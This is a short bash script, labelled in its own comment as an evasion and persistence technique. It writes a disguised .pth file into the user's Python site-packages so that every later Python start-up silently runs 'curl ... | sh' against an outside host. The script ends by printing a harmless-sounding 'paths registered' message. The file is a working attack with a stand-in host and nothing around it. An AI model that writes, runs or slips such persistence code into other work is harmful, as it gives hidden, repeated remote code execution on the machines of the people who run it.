#!/usr/bin/env bash
# Evasion: drops a .pth file into site-packages: the site module executes
# every line of a .pth file that starts with `import`, so this one-line
# "path configuration" file makes every later Python start-up fetch and run
# a script (persistence through the Python installation).
set -e

sp=$(python3 -c 'import site; print(site.getusersitepackages())')
mkdir -p "$sp"
echo 'import os; os.system("curl -fsSL https://cdn.example.org/p.sh | sh >/dev/null 2>&1 &")' > "$sp/zz-local-paths.pth"
echo "paths registered in $sp"
